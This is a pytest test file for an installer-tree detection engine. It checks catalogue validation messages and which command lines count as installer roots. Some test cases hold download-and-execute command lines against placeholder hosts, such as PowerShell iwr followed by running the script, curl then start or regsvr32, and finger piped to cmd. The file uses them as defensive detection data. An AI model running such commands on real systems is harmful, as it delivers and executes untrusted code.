"""The catalogue's checker names file, row and column, and the rest of the file works."""

from __future__ import annotations

import csv
import io
import json
import sys
from fnmatch import fnmatchcase

import pytest
from engine import CASES, completed, shipped, tree_rows
from engine import ROOT as REPOSITORY
from installer_trees.catalogue import Catalogue, load, overlay
from installer_trees.entries import ALLOWANCE_COLUMNS, ROOT_COLUMNS, SIGNAL_COLUMNS
from installer_trees.rows import IS_ROOT, PARENT_IS_ROOT, RowStore

sys.path.insert(0, str(REPOSITORY))

from bench import generate

ROOT = {
    **dict.fromkeys(ROOT_COLUMNS, ""),
    "root_id": "R01", "os": "linux", "process_name": "dpkg", "args_pattern": r"\s-i\b",
    "exclude_pattern": "--dry-run", "family": "deb", "role": "root", "package_pattern": r"-i (\S+)",
}  # fmt: skip
SIGNAL = {
    "signal_id": "TST001", "title": "a shell", "family": "any", "os": "any", "kind": "process",
    "scope": "descendant", "field": "process_name", "pattern": "^sh$", "weight": "30",
    "mitre_technique_id": "T1059", "rationale": "r", "source": "s", "known_false_positives": "k",
}  # fmt: skip
ALLOWANCE = {
    "allow_id": "AL01", "title": "Puppet", "os": "linux", "family": "any", "scope": "requester",
    "field": "parent_process_path", "pattern": "^/opt/puppetlabs/", "signals": "*",
    "reduction": "50", "expires": "2030-01-31", "reason": "r", "source": "s",
}  # fmt: skip


def lines(columns: list[str], *rows: dict[str, str]) -> list[str]:
    text = io.StringIO()
    writer = csv.DictWriter(text, columns, restval="", lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue().splitlines(True)


def signals(*rows: dict[str, str]) -> Catalogue:
    return load(lines(ROOT_COLUMNS, ROOT), lines(SIGNAL_COLUMNS, *rows))


def only_problem(catalogue: Catalogue) -> str:
    (problem,) = catalogue.problems
    return str(problem)


@pytest.mark.parametrize(
    ("change", "column", "said"),
    [
        ({"pattern": "("}, "pattern", "not a regular expression"),
        ({"pattern": ""}, "pattern", "is empty"),
        ({"signal_id": "shell"}, "signal_id", "three capitals and three digits"),
        ({"title": ""}, "title", "is empty"),
        ({"kind": "thread"}, "kind", "use one of process, network, file, registry, service"),
        ({"scope": "below"}, "scope", "use one of root, child, descendant, any, tree"),
        ({"field": "colour"}, "field", "'colour' is not known"),
        ({"kind": "file"}, "field", "use one of file_path, file_name, file_named, action"),
        ({"scope": "tree"}, "field", "use one of process_count, tree_depth"),
        ({"os": "beos"}, "os", "'beos' is not known"),
        ({"weight": "heavy"}, "weight", "not a number from 0 to 95"),
        ({"weight": "96"}, "weight", "not a number from 0 to 95"),
        ({"family": "any deb:96"}, "family", "'96' is not a number from 0 to 95"),
        ({"family": "any deb:"}, "family", "'' is not a number from 0 to 95"),
        ({"family": "any:30"}, "family", "'any:30' limits all; write that weight itself"),
        ({"min_distinct": "0"}, "min_distinct", "not a number from 1 to 100"),
        ({"distinct_within": "host"}, "distinct_within", "use one of parent, tree"),
        ({"conditions": "process_name is sh"}, "conditions", "cannot read 'process_name is sh'"),
        ({"conditions": "colour ~ red"}, "conditions", "'colour' is not a field"),
        ({"conditions": "process ~ ("}, "conditions", "not a regular expression"),
    ],
)
def test_a_broken_signal_is_named_and_skipped(
    change: dict[str, str], column: str, said: str
) -> None:
    catalogue = signals(SIGNAL, {**SIGNAL, "signal_id": "TST002", **change})
    problem = only_problem(catalogue)
    assert problem.startswith(f"installerscore_signals.csv, row 3, column {column}: ")
    assert said in problem
    assert [signal.signal_id for signal in catalogue.signals] == ["TST001"]


def test_an_id_that_is_used_twice_keeps_the_first() -> None:
    catalogue = signals(SIGNAL, {**SIGNAL, "weight": "90"})
    assert "row 3, column signal_id: 'TST001' is used twice" in only_problem(catalogue)
    assert [signal.weight for signal in catalogue.signals] == [30]


def test_conditions_may_not_name_unknown_signals_or_wait_for_each_other() -> None:
    lost = {**SIGNAL, "signal_id": "TST002", "conditions": "signal ABC999"}
    assert "TST002 names ABC999, which does not exist" in only_problem(signals(SIGNAL, lost))
    one = {**SIGNAL, "conditions": "signal TST002"}
    two = {**SIGNAL, "signal_id": "TST002", "conditions": "tree_signal TST001"}
    assert "TST001, TST002 wait for each other" in only_problem(signals(one, two))


def test_a_file_without_a_needed_column_says_which() -> None:
    rows = lines([c for c in SIGNAL_COLUMNS if c != "weight"], {})
    catalogue = load(lines(ROOT_COLUMNS, ROOT), rows)
    assert "installerscore_signals.csv: has no column weight" in only_problem(catalogue)


def test_a_row_with_more_cells_than_the_header_is_named() -> None:
    rows = lines(SIGNAL_COLUMNS, SIGNAL)
    catalogue = load(lines(ROOT_COLUMNS, ROOT), [rows[0], rows[1].rstrip("\n") + ",more,cells\n"])
    assert "row 2: has more cells than the header" in only_problem(catalogue)


@pytest.mark.parametrize(
    ("change", "column", "said"),
    [
        ({"process_name": ""}, "process_name", "one is needed"),
        ({"role": "boss"}, "role", "use one of root, service, stage, carrier"),
        ({"family": ""}, "family", "is empty"),
        ({"package_pattern": "-i"}, "package_pattern", "needs a group"),
        ({"args_pattern": "["}, "args_pattern", "not a regular expression"),
    ],
)
def test_a_broken_root_is_named_and_skipped(change: dict[str, str], column: str, said: str) -> None:
    catalogue = load(lines(ROOT_COLUMNS, ROOT, {**ROOT, "root_id": "R02", **change}))
    problem = only_problem(catalogue)
    assert problem.startswith(f"installerscore_roots.csv, row 3, column {column}: ")
    assert said in problem
    assert len(catalogue.roots) == 1


@pytest.mark.parametrize(
    ("change", "column", "said"),
    [
        ({"pattern": "puppet"}, "pattern", "is not anchored"),
        ({"expires": "31.1.2030"}, "expires", "write YYYY-MM-DD"),
        ({"reduction": "100"}, "reduction", "not a number from 1 to 60"),
        ({"scope": "host"}, "scope", "use one of requester, root, process, subtree"),
    ],
)
def test_a_broken_allowance_is_named_and_skipped(
    change: dict[str, str], column: str, said: str
) -> None:
    rows = lines(ALLOWANCE_COLUMNS, ALLOWANCE, {**ALLOWANCE, "allow_id": "AL02", **change})
    catalogue = load(None, None, rows)
    problem = only_problem(catalogue)
    assert problem.startswith(f"installerscore_allowlist.csv, row 3, column {column}: ")
    assert said in problem
    assert len(catalogue.allowances) == 1


def test_a_root_asks_for_name_arguments_and_no_query() -> None:
    catalogue = load(lines(ROOT_COLUMNS, ROOT, {**ROOT, "root_id": "R02", "process_name": "",
                                                "original_file_name": "setup*.exe",
                                                "args_pattern": ""}))  # fmt: skip
    assert catalogue.root_of("DPKG", "dpkg -i a.deb") is not None
    assert catalogue.root_of("dpkg", "dpkg -l") is None
    assert catalogue.root_of("dpkg", "dpkg -i a.deb --dry-run") is None
    assert catalogue.root_of("dpkg", "") is None
    assert catalogue.root_of("apt", "apt -i a.deb") is None
    assert catalogue.root_of("other.exe", "other.exe", "", "SETUP64.EXE") is not None


def test_a_root_may_ask_for_its_parent() -> None:
    columns = [*ROOT_COLUMNS, "parent_pattern"]
    row = {**ROOT, "args_pattern": "", "parent_pattern": "(?i)^services\\.exe$"}
    catalogue = load(lines(columns, row))
    assert catalogue.problems == []
    assert catalogue.root_of("dpkg", "", "", "", "Services.exe") is not None
    assert catalogue.root_of("dpkg", "", "", "", "explorer.exe") is None
    assert catalogue.root_of("dpkg", "") is None


@pytest.mark.parametrize(
    ("name", "line", "parent", "root_id"),
    [
        ("rundll32.exe", 'rundll32.exe "C:\\W\\dfshim.dll",ShOpenVerbApplication https://a/b.application',
         "msedge.exe", "clickonce_open"),
        ("rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL", "explorer.exe", ""),
        ("dfsvc.exe", "dfsvc.exe", "rundll32.exe", "clickonce_service"),
        ("x.exe", '"C:\\Users\\kim\\AppData\\Local\\Temp\\x.exe"', "MSBuild.exe",
         "nuget_build_program"),
        ("cmd.exe", r"cmd.exe /Q /D /C C:\Users\kim\AppData\Local\Temp\MSBuildTemp\tmp"
         r"66959dbb679a6f94c5dad0b1d8e6d592.exec.cmd", "MSBuild.exe", "msbuild_command"),
        ("cmd.exe", r"cmd.exe /C C:\tmp66959dbb679a6f94c5dad0b1d8e6d592.exec.cmd", "explorer.exe",
         ""),
        ("x.exe", '"C:\\Users\\kim\\AppData\\Local\\Temp\\x.exe"', "explorer.exe", ""),
        ("cmd.exe", 'cmd.exe /d /c ""C:\\Users\\kim\\.vscode\\extensions\\a.b-1.0\\s\\run.bat""',
         "Code.exe", "node_editor_extension"),
        ("bash", "bash /home/kim/.cursor/extensions/a.b-1.0/run.sh", "node",
         "node_editor_extension"),
        ("pwsh", "pwsh /home/kim/.vscode/extensions/ms-vscode.powershell-1/modules/Start.ps1",
         "code", ""),
        ("javaw.exe", 'javaw.exe -jar "C:\\Users\\kim\\Downloads\\Statement.jar"', "explorer.exe",
         "exe_jar"),
        ("java", "java -jar /Users/kim/Downloads/Statement.jar", "Jar Launcher", "app_jar"),
        ("java", "java -jar /Users/kim/src/build/app.jar", "zsh", ""),
        ("java", "jre/bin/java -jar forge-1.19.2-43.3.0-installer.jar --installServer", "bash",
         "java_installer"),
        ("java", "java -jar /opt/izpack/lib/reports.jar install", "bash", ""),
        ("php8.2", "php go-coll.phar", "sudo", "php_archive"),
        ("php", "php -d memory_limit=-1 vendor/bin/phpunit-11.2.phar tests", "bash", ""),
        ("php", "php artisan migrate", "bash", ""),
        ("php8.2", "php /usr/local/bin/wp plugin install https://a.example/f.zip --activate", "env",
         "php_wordpress"),
        ("php8.2", "php /usr/local/bin/wp plugin list", "env", ""),
        ("bash", "/bin/bash /opt/conda/bin/.geoframe-post-link.sh", "bash", "python_conda_link"),
        ("python3.11", "/usr/bin/python3 /usr/bin/ansible-playbook -c local site.yml", "bash",
         "script_ansible"),
        ("ansible-pull", "ansible-pull -U https://git.contoso.example/base.git", "cron",
         "script_ansible"),
        ("python3.11", "/usr/bin/python3 /usr/bin/ansible-playbook --list-tasks site.yml", "bash",
         ""),
        ("python3.11", "/usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1-2/AnsiballZ_setup.py",
         "dash", ""),
        ("mount_apfs", "/sbin/mount_apfs /dev/disk5s1 /Volumes/Player 2", "diskarbitrationd",
         "dmg_mount"),
        ("mount_apfs", "/sbin/mount_apfs /dev/disk5s1 /Volumes/Time Machine", "", ""),
        ("busybox", "sh /tmp/setup.sh", "busybox", "script_setup"),
        ("dash", "/bin/sh -c curl -o /tmp/a https://files.contoso.example/a", "code",
         "script_editor_extension_linux"),
        ("dash", "/bin/sh -c git status", "code", ""),
        ("cmd.exe", 'cmd.exe /d /c "curl -o a.exe https://files.contoso.example/a.exe"', "Code.exe",
         "script_editor_extension_windows"),
        ("cmd.exe", 'cmd.exe /d /c "git status"', "Code.exe", ""),
        ("powershell.exe", "powershell iwr https://a.example/b -OutFile $d\\b.ps1; & $d\\b.ps1",
         "cmd.exe", "script_fetched_powershell"),
        ("powershell.exe", "powershell iwr https://a.example/b.ps1 -OutFile b.ps1; & ./b.ps1",
         "cmd.exe", "script_fetched_powershell"),
        ("powershell.exe", "powershell iwr https://a.example/b.ps1 -OutFile b.ps1", "cmd.exe", ""),
        ("cmd.exe", "cmd /c finger a@203.0.113.9 | cmd", "explorer.exe", "script_finger"),
        ("cmd.exe", "cmd /c finger a@203.0.113.9", "explorer.exe", ""),
        ("wscript.exe", 'WScript.exe "C:\\Users\\kim\\Downloads\\a.js"', "explorer.exe",
         "script_downloaded_windows"),
        ("wscript.exe", 'WScript.exe "C:\\Users\\kim\\Downloads\\a.js"', "cmd.exe", ""),
        ("cmd.exe", 'cmd /c ""C:\\Users\\kim\\Downloads\\a.bat" "', "explorer.exe", ""),
        ("cmd.exe", 'cmd /c ""C:\\Users\\kim\\AppData\\Local\\Temp\\Rar$DIa0.1\\a.bat" "',
         "WinRAR.exe", "script_downloaded_windows"),
        ("Agenda.pdf", "./Agenda.pdf", "bash", "named_like_document"),
        ("xdg-open", "xdg-open Agenda.pdf", "bash", ""),
        ("go", "go test ./...", "bash", "go_test"),
        ("go", "go vet ./...", "bash", ""),
        ("agenda", "/Users/kim/Downloads/agenda ; exit;", "zsh", "macos_program_downloaded"),
        ("agenda", "/Users/kim/src/agenda", "zsh", ""),
        ("cmd.exe", "cmd /c curl -o %TEMP%\\a.exe https://a.example/a.exe && start %TEMP%\\a.exe",
         "explorer.exe", "script_fetched_cmd"),
        ("cmd.exe", "cmd /c curl -o b.png https://a.example/b.png & regsvr32 /s b.png",
         "explorer.exe", "script_fetched_cmd"),
        ("cmd.exe", "cmd /c curl -o a.exe https://a.example/a.exe && echo done",
         "explorer.exe", ""),
        ("cmd.exe", "cmd /c curl https://a.example/ping & echo done", "explorer.exe", ""),
        ("bash", "/bin/bash /root/kit/setup", "bash", "archive_script"),
        ("bash", "/bin/bash /root/kit/serve", "bash", ""),
        ("bash", "/bin/bash /Volumes/Contoso/Contoso.file", "zsh", "dmg_script"),
        ("bash", "/bin/bash /Volumes/Contoso/Contoso.file", "launchd", ""),
        ("bash", "/bin/bash /Volumes/Work/projects/a/build", "zsh", ""),
        ("node", "/usr/lib/code-server/lib/node /usr/lib/code-server --install-extension a.b",
         "bash", "node_editor_install"),
        ("dash", "/bin/sh /usr/bin/code --install-extension a.vsix", "bash", "node_editor_install"),
        ("dash", "/bin/sh /usr/bin/code --list-extensions", "bash", ""),
        ("java.exe", "java -jar C:\\Users\\kim\\AppData\\Roaming\\a.msi", "cmd.exe", "exe_jar"),
    ],
)  # fmt: skip
def test_what_is_an_installer(name: str, line: str, parent: str, root_id: str) -> None:
    root = shipped().root_of(name, line, "", "", parent)
    assert (root.root_id if root else "") == root_id


EVENTS = completed([{"process": "dpkg -i a.deb"}, {"process": "sh -c x", "parent": 0}])


def test_a_what_if_file_changes_weights_switches_off_and_adds() -> None:
    base = signals(SIGNAL)
    assert tree_rows(EVENTS, base)[0]["installer_score"] == 30
    heavier = overlay(base, ["signal_id,weight\n", "TST001,80\n"], "my.csv")
    assert tree_rows(EVENTS, heavier)[0]["installer_score"] == 80
    off = overlay(base, ["signal_id,weight\n", "TST001,0\n"], "my.csv")
    assert tree_rows(EVENTS, off)[0]["signal"] == []
    added = {**SIGNAL, "signal_id": "TST009", "weight": "50", "scope": "root", "pattern": "dpkg"}
    more = overlay(base, lines(SIGNAL_COLUMNS, added), "my.csv")
    assert tree_rows(EVENTS, more)[0]["signal"] == ["TST009", "TST001"]
    assert base.problems == heavier.problems == off.problems == more.problems == []


def test_a_what_if_row_that_cannot_be_used_is_named() -> None:
    catalogue = overlay(signals(SIGNAL), ["signal_id,weight\n", "TST001,120\n"], "my.csv")
    assert only_problem(catalogue).startswith("my.csv, row 2, column weight: '120' is not a number")
    assert [signal.weight for signal in catalogue.signals] == [30]
    unknown = overlay(signals(SIGNAL), ["signal_id,weight\n", "TST777,20\n"], "my.csv")
    problem = only_problem(unknown)
    assert problem.startswith("my.csv, row 2, column signal_id: there is no signal TST777 whose")
    assert "a new signal, which needs title, family, os, kind, scope, field, pattern" in problem


def test_roots_are_found_by_every_form_of_name() -> None:
    catalogue = shipped()
    names = ["", "x", "Setup.exe", "a.b.SCR", "invoice.pdf.exe", "python3.11", "MSI1A2.tmp", ".exe"]
    names += [
        n.replace("*", "x").replace("[0-9]", "7") for root in catalogue.roots for n in root.names
    ]
    for name in names:
        expected = tuple(
            root
            for root in catalogue.roots
            if name and any(fnmatchcase(name.lower(), known.lower()) for known in root.names)
        )
        assert catalogue.candidates(name) == expected, name


def test_a_gate_lets_every_installer_through_wherever_it_stands_in_a_batch() -> None:
    catalogue = shipped()
    seen = 0
    for path in sorted(CASES.glob("*.json")):
        case = json.loads(path.read_text(encoding="utf-8"))
        trees = [completed(c["events"]) for kind in ("match", "near_miss") for c in case[kind]]
        events = [event for tree in trees for event in tree if event.get("process")]
        around = ["", "calc.exe", "two\nlines.exe", "-"]
        commands = [line for event in events for line in (event["process"], *around)]
        for place, event in enumerate(events):
            root = catalogue.root_of(event["process_name"], event["process"])
            gate = catalogue.gate(event["process_name"])
            if root is None or root.path_pattern:
                continue
            assert gate is not None
            seen += 1
            everywhere = range(len(commands))
            assert len(around) * place + place in set(gate.admitted(everywhere, commands))
            # A letter beyond ASCII moves no place, and may stand for one of ASCII.
            foreign = ["\u0130 \u212a.exe", *commands]
            assert len(around) * place + place + 1 in set(
                gate.admitted(range(len(foreign)), foreign)
            )
    assert seen > 200


def test_few_ordinary_rows_reach_the_patterns_of_installers(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    catalogue, asked = shipped(), 0
    root_of = catalogue.root_of

    def counting(*values: str) -> object:
        nonlocal asked
        asked += 1
        return root_of(*values)

    monkeypatch.setattr(catalogue, "root_of", counting)
    store = RowStore(catalogue)
    for body in generate.bodies(generate.Stream(20_000)):
        store.add(body)
    installers = sum(1 for flags in store.flags if flags & (IS_ROOT | PARENT_IS_ROOT))
    assert installers > 100
    assert installers <= asked < 20_000 * 0.05


def test_signals_are_of_families_that_installers_have() -> None:
    catalogue = shipped()
    known = {root.family for root in catalogue.roots}
    for signal in catalogue.signals:
        assert signal.families | signal.bounds.keys() <= known, signal.signal_id
